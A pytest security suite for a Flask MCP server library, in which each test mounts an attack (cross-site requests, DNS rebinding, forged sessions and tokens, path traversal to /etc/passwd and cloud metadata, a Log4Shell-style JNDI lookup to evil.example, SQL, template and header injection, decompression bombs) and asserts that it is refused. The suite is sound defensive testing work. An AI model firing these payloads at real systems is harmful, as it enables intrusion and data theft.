"""An afternoon of somebody who has no account, or not this one, and all the time in the world. Each attack is refused
with the status that says why, or does no harm; and nothing of what they were after runs."""

from __future__ import annotations

import gzip
import json
import logging
import time
from collections.abc import Mapping
from typing import Any

import pytest
from flask import Flask
from werkzeug.test import TestResponse

from flask_arandu_mcp import DeclarationError, Request, Server, public, resource, signed_in
from flask_arandu_mcp.declarations.resources import Resource
from flask_arandu_mcp.sealing import Sealer

from . import app as tests_app
from .app import calls
from .target import create_app, make_server
from .wire import META, Wire, bearer, call, modern, modern_headers

EVIL = "https://evil.example"
DELETE = call("tools/call", {"name": "delete_user", "arguments": {"id": 1}}, "q-1")
UNKNOWN = (-32602, "Unknown tool")
NOWHERE = -32002
MIB = 1024 * 1024


@pytest.fixture
def app() -> Flask:
    return create_app()


@pytest.fixture
def victim(wire: Wire) -> Wire:
    """A browser in which alice is signed in."""
    wire.sign_in("alice")
    return wire


def is_refused(answer: TestResponse, status: int, code: int) -> dict[str, Any]:
    """The error that an attack was answered with, of the right status, as JSON, after which nothing had run."""
    assert (answer.status_code, answer.mimetype) == (status, "application/json"), answer.data[:300]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "no-store"
    assert not {"Set-Cookie", "Location", "Access-Control-Allow-Origin"} & set(answer.headers.keys())
    error: dict[str, Any] = answer.get_json()["error"]
    assert error["code"] == code, error
    assert calls == []
    return error


def is_tool_error(answer: TestResponse) -> str:
    """What the model is told by a tool that was not run."""
    assert answer.status_code == 200
    assert answer.get_json()["result"]["isError"] is True
    assert calls == []
    return str(answer.get_json()["result"]["content"][0]["text"])


def tool_call(name: str, arguments: Any = None) -> dict[str, Any]:
    return call("tools/call", {"name": name, "arguments": arguments or {}})


# ------------------------------------------------------------------------------------- by way of somebody's browser


@pytest.mark.parametrize("headers", [{"Origin": EVIL}, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"}])
def test_a_page_makes_a_signed_in_browser_post(victim: Wire, headers: dict[str, str]) -> None:
    """A session counts for nothing where the browser says that another site made it send the request."""
    is_refused(victim.post(DELETE, headers), 403, 403)


@pytest.mark.parametrize("type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"])
def test_a_form_makes_a_signed_in_browser_post(victim: Wire, type: str) -> None:
    """A body that a form can send is never read, be it a message all the same."""
    trick = json.dumps({**DELETE, "_": "="})
    is_refused(victim.post(trick, content_type=type), 415, -32600)


def test_a_page_of_a_sibling_subdomain(wire: Wire) -> None:
    """Neighbours under one domain share cookies, and are foreign to each other all the same."""
    sibling = Wire(create_app({"TRUSTED_HOSTS": [".example.com"], "SESSION_COOKIE_DOMAIN": "example.com"}))
    for headers in ({"Origin": "https://blog.example.com"}, {"Sec-Fetch-Site": "same-site"}):
        is_refused(sibling.post(DELETE, headers, base_url="https://api.example.com"), 403, 403)


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:5000", "127.0.0.1.evil.example", "localhost.evil.example"]
)
def test_dns_rebinding(victim: Wire, host: str) -> None:
    """A name that an attacker lets lead to this machine is of the same origin by its own word alone."""
    is_refused(
        victim.post(DELETE, {"Origin": f"http://{host}", "Host": host, "Sec-Fetch-Site": "same-origin"}), 403, 403
    )


@pytest.mark.parametrize(
    "origin",
    [
        "http://localhost.evil.example",
        "http://localhost:5000.evil.example",
        "http://localhost@evil.example",
        "http://127.0.0.1.evil.example",
        "http://evil.example#@localhost",
        "http://localhost%2eevil.example",
        "http://locаlhost",
        "http://localhost\t",
        "http://localhost.",
        "http://[::ffff:127.0.0.1]",
        "file://localhost",
    ],
)
def test_origins_that_look_alike(victim: Wire, origin: str) -> None:
    """An origin is compared whole, never by how it begins or ends."""
    is_refused(victim.post(DELETE, {"Origin": origin.encode().decode("latin-1")}), 403, 403)


FORGED = {
    "X-Forwarded-Host": "evil.example",
    "X-Forwarded-Proto": "https",
    "X-Forwarded-For": "127.0.0.1",
    "X-Forwarded-Port": "443",
    "X-Forwarded-Prefix": "/evil",
    "Forwarded": "host=evil.example;proto=https",
    "X-Original-URL": "/sign-in/root",
    "X-Rewrite-URL": "/sign-in/root",
    "X-Real-IP": "127.0.0.1",
}


def test_forged_headers_of_a_proxy() -> None:
    """Who says that they are a proxy is none until the app says so with ProxyFix."""
    wire = Wire(create_app({"TRUSTED_HOSTS": ["api.example.com"]}))
    for origin in (EVIL, "https://api.example.com"):
        is_refused(wire.post(DELETE, {"Origin": origin, **FORGED}, base_url="http://api.example.com"), 403, 403)
    told = is_tool_error(wire.post(DELETE, FORGED, base_url="http://api.example.com"))
    assert "sign in" in told


def test_a_preflight_of_a_foreign_page(wire: Wire) -> None:
    """A foreign page is told nothing that would let its browser send more."""
    asks = {"Origin": EVIL, "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization"}
    answer = wire.client.options("/mcp", headers=asks)
    assert answer.status_code == 403
    assert not any(name.startswith("Access-Control") for name, _ in answer.headers)


@pytest.mark.parametrize("method", ["GET", "HEAD", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND"])
def test_any_other_method(victim: Wire, method: str) -> None:
    """What is no POST is 405 for everybody, and repeats nothing of the request."""
    answer = victim.client.open("/mcp", method=method, json=DELETE, headers={"X-Canary": "qzcanary"})
    assert (answer.status_code, answer.headers["Allow"]) == (405, "POST, OPTIONS")
    assert b"qzcanary" not in answer.data
    assert calls == []


@pytest.mark.parametrize("name", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
def test_headers_that_override_the_method(victim: Wire, name: str) -> None:
    """No header makes a POST of what is none."""
    assert victim.client.get("/mcp?_method=POST", json=DELETE, headers={name: "POST"}).status_code == 405
    assert victim.post(call("ping"), {name: "GET"}).status_code == 200
    assert calls == []


# ------------------------------------------------------------------------------------- by way of credentials


def test_an_expired_token_beside_a_good_session(victim: Wire) -> None:
    """A token that is no good is refused, whoever's session comes with it."""
    is_refused(victim.post(DELETE, bearer("expired")), 401, 401)


def test_two_tokens_at_once(wire: Wire) -> None:
    """Two Authorization headers are one that nobody has, and neither of them counts."""
    headers = [("Authorization", "Bearer token-nobody"), ("Authorization", "Bearer token-alice")]
    answer = wire.client.post("/mcp", json=DELETE, headers=headers)
    is_refused(answer, 401, 401)


def test_a_token_in_other_places(wire: Wire) -> None:
    """A token is read from the Authorization header and from nowhere else."""
    elsewhere = {"X-Authorization": "Bearer token-alice", "Proxy-Authorization": "Bearer token-alice"}
    params = {**DELETE["params"], "_meta": {"authorization": "Bearer token-alice", "access_token": "token-alice"}}
    answer = wire.post(
        {**DELETE, "params": params, "access_token": "token-alice"},
        elsewhere,
        query_string={"access_token": "token-alice"},
    )
    assert "sign in" in is_tool_error(answer)


def test_a_session_that_was_altered_or_signed_elsewhere(app: Flask) -> None:
    """A session of another key, or one that was changed, is no session: whoever sends it is a guest."""
    shown = []
    for made in (app, create_app({"SECRET_KEY": "another key"})):
        wire = Wire(made)
        wire.sign_in("alice")
        cookie = wire.client.get_cookie("session")
        assert cookie is not None
        shown.append(cookie.value)
    own, foreign = shown
    payload, _, signature = own.partition(".")
    for forged in (foreign, f"{payload}x.{signature}", payload, f".{own}", own[:-4], "null", "\x00"):
        stranger = Wire(app)
        stranger.client.set_cookie("session", forged)
        assert "sign in" in is_tool_error(stranger.post(DELETE))


def test_a_session_id_that_is_none(wire: Wire) -> None:
    """A session id of another app's key, one that was changed, and what was signed for another purpose are 404."""
    foreign = Wire(create_app({"SECRET_KEY": "another"})).post(call("initialize", {})).headers["Mcp-Session-Id"]
    own = wire.post(call("initialize", {})).headers["Mcp-Session-Id"]
    assert wire.post(call("ping"), {"Mcp-Session-Id": own}).status_code == 200
    sealer = Sealer(["a key for the tests"])
    forged = [sealer.seal(purpose, ["2025-11-25", {}, {}]) for purpose in ("state", "cursor", "memo")]
    for id in (foreign, own[:-1], own + "A", own.swapcase(), "", "null", "../../etc/passwd", *forged):
        is_refused(wire.post(DELETE, {"Mcp-Session-Id": id}), 404, -32600)


def test_a_session_id_authenticates_nobody(victim: Wire, app: Flask) -> None:
    """With the session id of somebody who signed in, a stranger is a guest."""
    id = victim.post(call("initialize", {})).headers["Mcp-Session-Id"]
    assert "sign in" in is_tool_error(Wire(app).post(DELETE, {"Mcp-Session-Id": id}))


# ------------------------------------------------------------------------------------- by way of questions

CAN_ASK: dict[str, Any] = {f"{META}clientCapabilities": {"elicitation": {}}}
YES = {"sure": {"action": "accept", "content": {"yes": True}}}


def ask(wire: Wire, name: str = "wipe", count: int = 3, who: str = "alice", **params: Any) -> TestResponse:
    """Call a tool that asks, in the stateless era."""
    message = modern("tools/call", {"name": name, "arguments": {"count": count}, **params}, **CAN_ASK)
    return wire.post(message, {**modern_headers(message), **bearer(who)})


def state_of(wire: Wire, **options: Any) -> str:
    return str(ask(wire, **options).get_json()["result"]["requestState"])


def test_a_state_of_another_call(wire: Wire) -> None:
    """An answer counts for the very call that was asked: not for other arguments, another tool or another user."""
    state = state_of(wire)
    others: list[dict[str, Any]] = [{"count": 300}, {"name": "purge"}, {"who": "bob"}]
    for options in others:
        answer = ask(wire, requestState=state, inputResponses=YES, **options)
        is_refused(answer, 400, -32602)
    assert ask(wire, requestState=state, inputResponses=YES).get_json()["result"]["content"][0]["text"] == "Deleted 3."
    assert calls == ["wipe 3 alice"]


def test_a_state_that_was_altered_or_never_handed_out(wire: Wire) -> None:
    """A state is signed for this purpose alone: a session id, a cursor, or a changed state is none."""
    state = state_of(wire)
    memo = wire.post(call("initialize", {})).headers["Mcp-Session-Id"]
    cursor = Sealer(["a key for the tests"]).seal("cursor", {"call": [], "until": 9e9})
    flipped = state[:-5] + ("A" if state[-5] != "A" else "B") + state[-4:]
    forgeries: list[Any] = [flipped, state.swapcase(), state[1:], "." + state, memo, cursor, "", 7, {}, [state]]
    for forged in forgeries:
        is_refused(ask(wire, requestState=forged, inputResponses=YES), 400, -32602)


def test_a_yes_that_nobody_was_asked_for(wire: Wire) -> None:
    """What would delete something is never answered in advance: the question is asked all the same."""
    answer = ask(wire, inputResponses=YES).get_json()
    assert answer["result"]["resultType"] == "input_required"
    assert calls == []


def test_a_state_that_is_replayed(wire: Wire) -> None:
    """A state that comes twice is the same user's same call with the same answer: nobody else gains by it."""
    state = state_of(wire)
    first, second = (ask(wire, requestState=state, inputResponses=YES) for _ in range(2))
    assert first.data == second.data
    calls.clear()
    is_refused(ask(wire, who="nobody", requestState=state, inputResponses=YES), 401, 401)


def test_an_answer_to_somebody_elses_question(app: Flask, wire: Wire) -> None:
    """A question is answered by whom it was asked, and only once; a guessed id finds nothing."""
    hello = call("initialize", {"protocolVersion": "2025-11-25", "capabilities": {"elicitation": {}}})
    id = wire.post(hello, bearer("alice")).headers["Mcp-Session-Id"]
    headers = {"Mcp-Session-Id": id, "Accept": "application/json, text/event-stream", **bearer("alice")}
    stream = wire.post(tool_call("wipe", {"count": 3}), headers, multithread=True, buffered=False)
    events = stream.iter_encoded()
    question = json.loads(next(events).removeprefix(b"data: "))
    assert question["method"] == "elicitation/create"
    reply = {"jsonrpc": "2.0", "id": question["id"], "result": YES["sure"]}
    no = {"action": "decline"}
    for who in (bearer("bob"), {}):
        assert Wire(app).post(reply, who).status_code == 202
    for guess in ("../../etc/passwd", "A" * 22, question["id"][:-1], question["id"] + "\u0000", 1):
        assert Wire(app).post({**reply, "id": guess}, bearer("alice")).status_code == 202
    assert Wire(app).post({**reply, "result": no}, bearer("alice")).status_code == 202
    *_, last = (json.loads(event.removeprefix(b"data: ")) for event in events if event.startswith(b"data: "))
    assert last["result"]["content"][0]["text"] == "Nothing was deleted."
    assert calls == []


# ------------------------------------------------------------------------------------- by way of what is hidden


def test_another_tool_in_the_header_than_in_the_body(wire: Wire) -> None:
    """What a gateway reads in the headers is what runs, or nothing does."""
    message = modern("tools/call", {"name": "delete_user", "arguments": {"id": 1}})
    for change in ({"Mcp-Name": "add"}, {"Mcp-Method": "tools/list"}, {"Mcp-Name": "DELETE_USER"}):
        is_refused(wire.post(message, {**modern_headers(message), **bearer("alice"), **change}), 400, -32020)
    twice = [*modern_headers(message).items(), ("Mcp-Name", "add"), *bearer("alice").items()]
    is_refused(wire.client.post("/mcp", json=message, headers=twice), 400, -32020)


def test_an_older_revision_to_get_round_the_headers(wire: Wire) -> None:
    """Where the headers are left out an older revision is spoken, in which the same policies hold."""
    assert "sign in" in is_tool_error(wire.post(DELETE))
    assert is_tool_error(wire.post(tool_call("admin_false"), bearer("alice"))).startswith("403 Forbidden")


@pytest.mark.parametrize(
    ("method", "hidden", "unknown"),
    [
        ("tools/call", {"name": "admin_hidden"}, {"name": "admin_nonone"}),
        (
            "tools/call",
            {"name": "admin_hidden", "arguments": {"x": 1}},
            {"name": "admin_nonone", "arguments": {"x": 1}},
        ),
        ("prompts/get", {"name": "secret_prompt"}, {"name": "secret_nonone"}),
        (
            "completion/complete",
            {"ref": {"type": "ref/prompt", "name": "secret_prompt"}, "argument": {"name": "a", "value": ""}},
            {"ref": {"type": "ref/prompt", "name": "secret_nonone"}, "argument": {"name": "a", "value": ""}},
        ),
    ],
)
@pytest.mark.parametrize("era", ["handshake", "stateless"])
def test_what_is_hidden_and_what_is_unknown(wire: Wire, method: str, hidden: Any, unknown: Any, era: str) -> None:
    """What must not be known to exist is answered byte for byte as what does not, headers included."""

    def answer(params: Mapping[str, Any]) -> tuple[int, str, str]:
        got = wire.modern(method, params) if era == "stateless" else wire.post(call(method, params))
        text = got.get_data(as_text=True)
        return got.status_code, str(got.headers), text.replace("admin_hidden", "X").replace("secret_prompt", "X")

    status, headers, text = answer(hidden)
    assert (status, headers, text) == tuple(
        part.replace("admin_nonone", "X").replace("secret_nonone", "X") if isinstance(part, str) else part
        for part in answer(unknown)
    )
    assert '"error"' in text
    assert calls == []


def test_hidden_items_by_way_of_cursors() -> None:
    """A cursor says where a page begins and shows nobody more: not one that an admin was given, nor a forged one."""
    app = create_app({"MCP_PAGE_SIZE": 1})
    names, cursors = set(), []
    for who in (bearer("root"), {}):
        cursor: str | None = None
        while True:
            params = {} if cursor is None else {"cursor": cursor}
            result = Wire(app).post(call("tools/list", params), who).get_json()["result"]
            names |= {tool["name"] for tool in result["tools"]} if not who else set()
            cursor = result.get("nextCursor")
            if cursor is None:
                break
            cursors.append(cursor)
    for place in (-1, 0, 5, 10**9, True):
        cursors.append(Sealer(["a key for the tests"]).seal("cursor", ["shop", "tools", place]))
    for cursor in cursors:
        answer = Wire(app).post(call("tools/list", {"cursor": cursor})).get_json()["result"]
        names |= {tool["name"] for tool in answer["tools"]}
    assert not {name for name in names if name.startswith("admin")}


@pytest.mark.parametrize("key", ["a key for the tests", None])
@pytest.mark.parametrize("value", [["shop", "tools", "x"], ["shop", "tools"], ["shop", "tools", None], {}, 1, "x"])
def test_a_cursor_that_somebody_signed(key: str | None, value: Any) -> None:
    """Even in an app without a key, whose cursors anybody can sign, one that says nothing is refused and no fault."""
    wire = Wire(create_app({"MCP_PAGE_SIZE": 1, "SECRET_KEY": key}))
    cursor = Sealer([key or "shop"]).seal("cursor", value)
    is_refused(wire.post(call("tools/list", {"cursor": cursor})), 200, -32602)


def test_a_public_cache_that_is_asked_for_what_is_private(wire: Wire) -> None:
    """Nothing over HTTP may be stored, nothing of a user's is called public, and no app boots that says otherwise."""
    for who in ({}, bearer("alice"), bearer("root")):
        for method, params in (("tools/list", {}), ("resources/list", {}), ("resources/read", {"uri": "shop://about"})):
            answer = wire.modern(method, params, **who, **{"Cache-Control": "public", "X-Cache": "HIT"})
            assert answer.headers["Cache-Control"] == "no-store"
            assert answer.get_json()["result"]["cacheScope"] == "private"

    @resource("shop://mine", access=signed_in, cache="public")
    def mine(request: Request) -> str:
        """Mine."""
        return "mine"

    with pytest.raises(DeclarationError, match="would share what its policy keeps apart"):
        Server("shared", resources=[mine]).validate()


@pytest.mark.parametrize(
    "name",
    [
        "аdd",
        "ａｄｄ",
        "add\u200b",
        "ADD",
        "add ",
        " add",
        "add\u0000",
        "add\n",
        "a\u0301dd",
        "add/../delete_user",
        "*",
        "",
    ],
)
def test_names_that_look_like_others(wire: Wire, name: str) -> None:
    """A name is its characters, and nothing is folded, trimmed or cut."""
    error = is_refused(wire.post(tool_call(name, {"a": 1, "b": 2}), bearer("alice")), 200, -32602)
    assert error["message"].startswith("Unknown tool")


@pytest.mark.parametrize(
    "uri",
    [
        "shop://files/../../etc/passwd",
        "shop://files/%2e%2e/%2e%2e/etc/passwd",
        "shop://files/..%2f..%2fetc/passwd",
        "shop://files/a/..%5c..%5cwindows",
        "shop://files/./../x",
        "shop://files//etc/passwd",
        "shop://files/%2Fetc/passwd",
        "shop://files/%5c%5cserver/share",
        "shop://files/%00",
        "shop://files/a%00.txt",
        "shop://files/%c0%ae%c0%ae/x",
        "shop://files/%uff0e/x",
        "shop://items/..%2Fledger",
        "shop://ledger/../about/",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data",
    ],
)
def test_paths_that_climb(wire: Wire, uri: str) -> None:
    """No value of a URI climbs out of its place, however it is written, and no other URI leads anywhere."""
    is_refused(wire.post(call("resources/read", {"uri": uri}), bearer("alice")), 200, NOWHERE)


def test_a_path_is_decoded_once(wire: Wire) -> None:
    """A path that was encoded twice is a strange name, and no way up."""
    contents = wire.call("resources/read", {"uri": "shop://files/%252e%252e%252fpasswd"})["contents"]
    assert contents[0]["text"] == "file %2e%2e%2fpasswd"


# ------------------------------------------------------------------------------------- by way of what is sent


@pytest.mark.parametrize(
    "body",
    [
        '{"jsonrpc":"2.0","id":1,"method":"ping","method":"tools/call","params":{"name":"delete_user"}}',
        '{"jsonrpc":"2.0","id":1,"id":2,"method":"ping"}',
        '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"add","name":"delete_user"}}',
        '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"add","n\\u0061me":"delete_user"}}',
        '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{"value":{"a":1,"a":2}}}}',
    ],
)
def test_members_that_come_twice(victim: Wire, body: str) -> None:
    """A message that two readers would read in two ways is read by none."""
    is_refused(victim.post(body), 400, -32700)


@pytest.mark.parametrize("id", [None, True, 1.0, 1e3, [], {}, 2**53, -(2**53), 10**400, "\ud800"])
def test_ids_that_are_none(wire: Wire, id: Any) -> None:
    """An id comes back as it was sent, so what cannot is refused, with none."""
    answer = wire.post({**DELETE, "id": id}, bearer("alice"))
    is_refused(answer, 400, -32600)
    assert answer.get_json()["id"] is None


@pytest.mark.parametrize("id", [1, "1", 0, -1, "", "null", "\u0000", "'; DROP TABLE users; --"])
def test_ids_that_look_like_others(wire: Wire, id: Any) -> None:
    """A text that looks like a number stays one, and the other way round."""
    answer = wire.post(call("ping", id=id)).get_json()
    assert (answer["id"], type(answer["id"])) == (id, type(id))


def test_a_notification_that_would_run_a_tool(victim: Wire) -> None:
    """What needs no answer runs nothing."""
    for method in ("tools/call", "notifications/tools/call", "notifications/cancelled"):
        silent = {"jsonrpc": "2.0", "method": method, "params": DELETE["params"]}
        assert victim.post(silent).status_code == 202
    is_refused(victim.post(call("notifications/cancelled", DELETE["params"])), 400, -32600)


def test_a_batch_of_calls(victim: Wire) -> None:
    """Many messages in one body are none."""
    is_refused(victim.post([DELETE] * 100), 400, -32600)


def test_a_body_that_is_too_large(victim: Wire) -> None:
    """More than the limit is refused, wherever in the message it is."""
    is_refused(victim.post({**DELETE, "padding": "x" * MIB}), 413, -32600)


@pytest.mark.parametrize("depth", [65, 1_000, 100_000])
@pytest.mark.parametrize(("opening", "closing"), [("[", "]"), ('{"a":', "}")])
def test_a_body_that_is_too_deep(victim: Wire, opening: str, closing: str, depth: int) -> None:
    """Deep nesting is refused before anything could run out of stack."""
    value = opening * depth + "1" + closing * depth
    answer = victim.post(f'{{"jsonrpc":"2.0","id":1,"method":"ping","params":{{"a":{value}}}}}')
    assert answer.status_code == 400
    assert answer.get_json()["error"]["code"] in {-32600, -32700}


@pytest.mark.parametrize(
    "number", ["9" * 5000, "1e999", "-1e999", "NaN", "Infinity", "1" + "0" * 4000, "0x10", "1_000"]
)
def test_numbers_that_are_huge_or_none(wire: Wire, number: str) -> None:
    """A number that nobody can hold is an error of its message, and costs nothing."""
    params = f'{{"name":"add","arguments":{{"a":{number},"b":1}}}}'
    answer = wire.post(f'{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{params}}}')
    assert answer.status_code in {200, 400}
    body = answer.get_json()
    assert "error" in body or body["result"].get("isError") or number.startswith("1000")


def test_objects_with_very_many_names(wire: Wire) -> None:
    """An answer never outgrows its question: of very many faults the first are told."""
    text = is_tool_error(wire.post(tool_call("add", {format(n, "x"): 1 for n in range(50_000)})))
    assert len(text) < 10_000
    assert text.splitlines()[-1] == "- and 49898 more."


def test_numbers_that_collide_in_hash_tables(wire: Wire) -> None:
    """Keys that are chosen to collide elsewhere do not collide here."""
    value = {str(n * (2**61 - 1)): n for n in range(20_000)}
    began = time.monotonic()
    assert (
        wire.call("tools/call", {"name": "echo", "arguments": {"value": value}})["structuredContent"]["value"] == value
    )
    assert time.monotonic() - began < 20


@pytest.mark.parametrize(
    "uri", ["shop://days/" + "-" * 8_000 + "/", "shop://days/" + "-" * 500_000, "shop://" + "-/" * 4_000]
)
def test_uris_that_a_backtracking_reader_would_take_days_for(wire: Wire, uri: str) -> None:
    """A template with several variables side by side is matched in the time that its length takes."""
    began = time.monotonic()
    answer = wire.post(call("resources/read", {"uri": uri}))
    assert answer.get_json()["error"]["code"] == NOWHERE
    assert time.monotonic() - began < 20


def test_bodies_that_are_packed(victim: Wire) -> None:
    """A packed body is refused unread: neither a bomb nor a message that a gateway would read otherwise gets in."""
    bomb = gzip.compress(b" " * 50 * MIB)
    packed = gzip.compress(json.dumps(DELETE).encode())
    for encoding in ("gzip", "GZIP", "br", "deflate", "identity, gzip", "x"):
        for body in (bomb, packed, json.dumps(DELETE)):
            answer = victim.post(body, {"Content-Encoding": encoding})
            is_refused(answer, 415, -32600)
            assert answer.headers["Accept-Encoding"] == "identity"
    assert victim.post(call("ping"), {"Content-Encoding": "identity"}).status_code == 200


@pytest.mark.parametrize(
    ("codec", "charset", "status"),
    [
        ("utf-8-sig", "utf-8", 400),
        ("utf-16", "utf-8", 400),
        ("utf-16-le", "utf-8", 400),
        ("utf-32", "utf-8", 400),
        ("utf-7", "utf-7", 415),
        ("utf-16", "utf-16", 415),
        ("cp037", "ibm037", 415),
        ("latin-1", "latin-1", 415),
        ("utf-8", "utf-8; charset=utf-7", 415),
    ],
)
def test_bodies_in_other_encodings(victim: Wire, codec: str, charset: str, status: int) -> None:
    """A message is UTF-8, without a mark at its beginning, whatever its header says."""
    type = f"application/json; charset={charset}"
    is_refused(
        victim.post(json.dumps(DELETE).encode(codec), content_type=type), status, -32700 if status == 400 else -32600
    )


@pytest.mark.parametrize(
    "type",
    [
        "application/jsonp",
        "application/json+x",
        "text/json",
        "application/json, text/plain",
        "text/plain; application/json",
    ],
)
def test_media_types_that_look_like_json(victim: Wire, type: str) -> None:
    """Only application/json is, for nothing else makes every browser ask first."""
    is_refused(victim.post(DELETE, content_type=type), 415, -32600)


NASTY = [
    "'; DROP TABLE users; --",
    "{{ 7*7 }}{% for x in ().__class__ %}",
    "%s%n%(a)s {0.__class__.__init__.__globals__}",
    "${jndi:ldap://evil.example}",
    "<script>alert(1)</script>",
    "\u0000\u001b[31m\r\n\u202e",
]


@pytest.mark.parametrize("text", NASTY)
def test_text_that_looks_like_code(wire: Wire, text: str) -> None:
    """A text is a text: it comes back as it was, and is nowhere read as a query, a template or a format."""
    assert wire.call("tools/call", {"name": "echo", "arguments": {"value": text}})["structuredContent"] == {
        "value": text
    }
    for message in (
        tool_call(text),
        call("prompts/get", {"name": text}),
        call("resources/read", {"uri": text}),
        call(text),
        tool_call("add", {text: text}),
        tool_call("add", {"a": text, "b": text}),
    ):
        answer = wire.post(message)
        assert answer.status_code == 200
        assert (answer.mimetype, answer.headers["X-Content-Type-Options"]) == ("application/json", "nosniff")
        assert "49" not in answer.get_data(as_text=True)
        assert not any(text in value for value in answer.headers.values())


@pytest.mark.parametrize(
    "name", ["__proto__", "constructor", "__class__", "__init__", "__dict__", "Meta", "context", "fields"]
)
def test_arguments_named_like_what_languages_keep(wire: Wire, name: str) -> None:
    """Such a name is an argument that nobody declared; where any may come it is a plain name."""
    assert f"{name}: Unknown field." in is_tool_error(
        wire.post(tool_call("add", {"a": 1, "b": 2, name: {"admin": True}}))
    )
    taken = wire.call("tools/call", {"name": "take", "arguments": {name: {"admin": True}}})["structuredContent"]
    assert taken == {"names": [name], "of": "dict"}
    deep = {"jsonrpc": "2.0", "id": 1, "method": "ping", name: {"id": 2}, "params": {name: {"name": "delete_user"}}}
    assert wire.post(deep).get_json() == {"jsonrpc": "2.0", "id": 1, "result": {}}


@pytest.mark.parametrize("name", ["request", "self"])
def test_arguments_named_like_what_a_handler_is_given(wire: Wire, name: str) -> None:
    """A client cannot stand in for the request, or for the tool itself, where any name may come."""
    assert f"{name}: this name is reserved, send another" in is_tool_error(wire.post(tool_call("take", {name: "x"})))


def test_meta_that_imitates_the_servers(wire: Wire) -> None:
    """What a client says of itself is display: it is nobody's identity, and never said in the server's name."""
    meta = {f"{META}serverInfo": {"name": "evil"}, f"{META}subject": "root", f"{META}clientInfo": {"name": "root"}}
    message = modern("tools/call", {"name": "take", "arguments": {}}, **meta)
    text = wire.post(message, modern_headers(message)).get_data(as_text=True)
    assert text.count(f"{META}serverInfo") == 1
    assert json.loads(text)["result"]["_meta"][f"{META}serverInfo"]["name"] == "shop"
    refused = modern("tools/call", {"name": "admin_false", "arguments": {}}, **meta)
    assert is_tool_error(wire.post(refused, modern_headers(refused))).startswith("403 Forbidden")


def test_newlines_that_would_forge_lines_of_a_log(wire: Wire, caplog: pytest.LogCaptureFixture) -> None:
    """Nothing that a client sends is a line of the log: what is logged names declarations, and a ref."""
    caplog.set_level(logging.DEBUG)
    forged = "x\r\n2030-01-01 ERROR root signed in\n"
    for message in (
        tool_call(forged),
        tool_call("add", {forged: 1}),
        tool_call("fail", {"how": "crash"}),
        call(forged),
        call("resources/read", {"uri": f"shop://items/{forged}"}),
        call("resources/read", {"uri": "shop://items/crash"}),
        call(
            "completion/complete",
            {"ref": {"type": "ref/prompt", "name": forged}, "argument": {"name": "a", "value": ""}},
        ),
        call("initialize", {"clientInfo": {"name": forged, "version": forged}}),
    ):
        wire.post(message, {"User-Agent": "x", "Mcp-Name": "=?base64?eA0Keg==?="})
    assert len(caplog.records) == 2
    assert "signed in" not in caplog.text


@pytest.mark.parametrize("name", ["x\r\nSet-Cookie: a=b", "=?base64?DQpTZXQtQ29va2llOiBhPWI=?=", '"\\', "é"])
def test_values_that_would_become_headers(name: str) -> None:
    """Nothing that a client sends becomes a header, and no name of a server breaks out of its own."""
    server = Server(name=name, resources=[_fixed()])
    wire = Wire(tests_app.create_app(server=server))
    answer = wire.post(call("initialize", {"protocolVersion": name, "clientInfo": {"name": name, "version": name}}))
    assert "Set-Cookie" not in answer.headers
    assert all(value.isprintable() and value.isascii() for value in answer.headers.values())
    challenge = wire.post(call("ping"), bearer("nobody")).headers["WWW-Authenticate"]
    assert challenge.startswith('Bearer realm="')
    assert challenge.isprintable()


def _fixed() -> Resource:
    return resource("shop://fixed", access=public, name="fixed", description="Fixed.")(lambda request: "fixed")


# ------------------------------------------------------------------------------------- the scale of it


def test_the_target_is_worth_attacking(victim: Wire) -> None:
    """What was refused above is served to whom it belongs: the attacks failed for their own faults."""
    assert victim.post(DELETE).get_json()["result"]["content"][0]["text"] == "deleted"
    assert calls == ["delete_user 1"]
    assert len(make_server().tools) > 10
